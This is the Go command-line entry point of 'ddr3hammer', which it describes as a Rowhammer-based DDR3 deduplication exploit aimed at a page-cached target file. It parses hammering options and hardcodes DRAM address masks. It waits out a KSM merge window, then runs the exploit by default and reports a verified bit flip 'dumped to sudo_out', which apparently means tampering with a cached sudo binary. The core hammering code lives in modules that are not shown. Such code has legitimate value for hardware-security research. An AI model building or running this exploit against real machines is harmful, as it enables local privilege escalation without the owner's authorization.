// This file is part of ddr3hammer.
//
// ddr3hammer is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// ddr3hammer is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with ddr3hammer.  If not, see <https://www.gnu.org/licenses/>.

package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"time"

	kingpin "gopkg.in/alecthomas/kingpin.v2"

	"github.com/jetsetilly/ddr3hammer/ddrerr"
	"github.com/jetsetilly/ddr3hammer/internal/config"
	"github.com/jetsetilly/ddr3hammer/internal/exploit"
	"github.com/jetsetilly/ddr3hammer/internal/hammer"
	"github.com/jetsetilly/ddr3hammer/internal/orchestrator"
	"github.com/jetsetilly/ddr3hammer/internal/scan"
	"github.com/jetsetilly/ddr3hammer/logger"
)

const applicationName = "ddr3hammer"

// ksmScanWindow is how long the driver waits at StateAwaitDedup for the
// kernel's same-page merging to complete at least one full scan. The
// original tool instead blocked on a keypress. How long a KSM pass takes
// depends on /sys/kernel/mm/ksm/pages_to_scan and sleep_millisecs; the
// window is a fixed two minutes regardless of those settings.
const ksmScanWindow = 2 * time.Minute

// defaultFunctionMasks and defaultRowMask are the reverse-engineered DDR3
// addressing functions hardcoded by the original tool. Deriving these for
// an arbitrary DIMM is out of scope (see internal/config's DRAMConfig doc);
// --masks/--rowmask override them.
var (
	defaultFunctionMasks = []uint64{0x22000, 0x44000, 0x110000, 0x88000}
	defaultRowMask       = uint64(0x1e0000)
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	log := logger.NewLogger(512)

	cfg, printRows, err := parseArgs(args, log)
	if err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", applicationName, err)
		return 1
	}

	if err := cfg.Validate(); err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", applicationName, err)
		return 1
	}

	if printRows {
		printBankRows(cfg)
		return 0
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	var dedup exploit.DedupWait = exploit.SleepWait{Duration: ksmScanWindow}
	outcome, rerr := orchestrator.Run(ctx, cfg, dedup, log)

	log.Tail(os.Stdout, 512)

	switch {
	case ddrerr.Is(rerr, ddrerr.HammerSuccess):
		fmt.Printf("%s: flip verified at %#x, dumped to sudo_out\n", applicationName, outcome.ExploitResult.Template.Addr)
		return 0
	case cfg.Mode != config.ModeExploit && outcome.Template != nil:
		fmt.Printf("%s: template found at %#x\n", applicationName, outcome.Template.Addr)
		return 0
	case cfg.Mode == config.ModeRandomPairs:
		fmt.Printf("%s: %d regions scanned, %d flips observed\n", applicationName, outcome.RegionsAttempted, outcome.RandomPairFlips)
		return 0
	default:
		fmt.Fprintf(os.Stderr, "%s: %v\n", applicationName, rerr)
		return 1
	}
}

// parseArgs mirrors the original tool's getopt_long table: -a/--all,
// -b/--bank, -r/--random, -R/--rounds, -n/--nactiv, -p/--r_pairs,
// -P/--print_rows, -v/--verbose, -f/--flipsudo. Mode-selecting flags
// (-a, -b, -r, and exploit-by-default) are mutually exclusive, matching the
// original's "you have already selected" conflict checks. A fresh
// kingpin.Application is built per call, rather than binding the package-level
// kingpin.CommandLine, so repeated calls (as in tests) don't share state.
func parseArgs(args []string, log *logger.Logger) (config.Config, bool, error) {
	app := kingpin.New(applicationName, "Rowhammer-based DDR3 deduplication exploit against a page-cached target file.")
	app.Terminate(nil)

	all := app.Flag("all", "hammer all banks").Short('a').Bool()
	bank := app.Flag("bank", "hammer the given bank number").Short('b').Default("-1").Int()
	random := app.Flag("random", "hammer random aggressor row pairs").Short('r').Bool()
	rounds := app.Flag("rounds", "hammering rounds per aggressor row pair").Short('R').Default(strconv.Itoa(hammer.DefaultRounds)).Int()
	nactiv := app.Flag("nactiv", "activation count per hammering round").Short('n').Default(strconv.FormatUint(hammer.DefaultActivations, 10)).Uint64()
	randomN := app.Flag("r_pairs", "hammer the given number of random aggressor row pairs").Short('p').Default("0").Int()
	printRows := app.Flag("print_rows", "print addressable row pairs for the given bank number and exit").Short('P').Default("-1").Int()
	verbose := app.Flag("verbose", "verbose logging").Short('v').Bool()
	flipSudo := app.Flag("flipsudo", "recorded in the run configuration; the exploit path runs whether or not it is set").Short('f').Bool()
	targetPath := app.Flag("target", "path to the target file subject to page deduplication").Default(config.DefaultTargetPath).String()
	masksRaw := app.Flag("masks", "comma-separated hex DRAM address function masks, overriding the built-in DDR3 defaults").Default("").String()
	rowMaskRaw := app.Flag("rowmask", "hex DRAM row bitmask, overriding the built-in DDR3 default").Default("").String()

	if _, err := app.Parse(args); err != nil {
		return config.Config{}, false, err
	}

	masks := defaultFunctionMasks
	if *masksRaw != "" {
		m, err := parseHexList(*masksRaw)
		if err != nil {
			return config.Config{}, false, fmt.Errorf("--masks: %w", err)
		}
		masks = m
	}
	rowMask := defaultRowMask
	if *rowMaskRaw != "" {
		m, err := strconv.ParseUint(strings.TrimPrefix(*rowMaskRaw, "0x"), 16, 64)
		if err != nil {
			return config.Config{}, false, fmt.Errorf("--rowmask: %w", err)
		}
		rowMask = m
	}

	selected := 0
	mode := config.ModeExploit
	if *all {
		mode = config.ModeScanAll
		selected++
	}
	if *bank >= 0 {
		mode = config.ModeScanBank
		selected++
	}
	if *random {
		mode = config.ModeRandomPairs
		selected++
	}
	if selected > 1 {
		return config.Config{}, false, fmt.Errorf("-a/--all, -b/--bank, and -r/--random are mutually exclusive")
	}

	bankN := *bank
	if bankN < 0 {
		bankN = 0
	}

	cfg := config.Config{
		Mode: mode,
		DRAM: config.DRAMConfig{FunctionMasks: masks, RowMask: rowMask},
		Hammer: config.HammerConfig{
			Activations: *nactiv,
			Rounds:      *rounds,
			RandomPairs: *randomN,
			Bank:        uint16(bankN),
			PrintRows:   *printRows >= 0,
		},
		TargetPath: *targetPath,
		Verbose:    *verbose,
		FlipSudo:   *flipSudo,
	}

	if *printRows >= 0 {
		cfg.Hammer.Bank = uint16(*printRows)
	}

	if *verbose {
		log.Logf(logger.Allow, applicationName, "mode=%v bank=%d activations=%d rounds=%d", mode, cfg.Hammer.Bank, *nactiv, *rounds)
	}

	return cfg, *printRows >= 0, nil
}

func parseHexList(raw string) ([]uint64, error) {
	parts := strings.Split(raw, ",")
	out := make([]uint64, 0, len(parts))
	for _, p := range parts {
		p = strings.TrimSpace(strings.TrimPrefix(p, "0x"))
		v, err := strconv.ParseUint(p, 16, 64)
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}

// printBankRows implements the original tool's CALC_DRAM_CONFIG-gated
// diagnostic: list the row-aligned addresses within a bank without
// hammering anything. It bypasses internal/orchestrator entirely, matching
// the original's standalone print_rows branch.
func printBankRows(cfg config.Config) {
	geo := cfg.DRAM.Geometry()
	rows := scan.BankRows(geo, cfg.Hammer.Bank)
	fmt.Printf("addressable rows for bank %d:\n", cfg.Hammer.Bank)
	for i, r := range rows {
		fmt.Printf("  row %2d: %#x\n", i, r)
	}
}
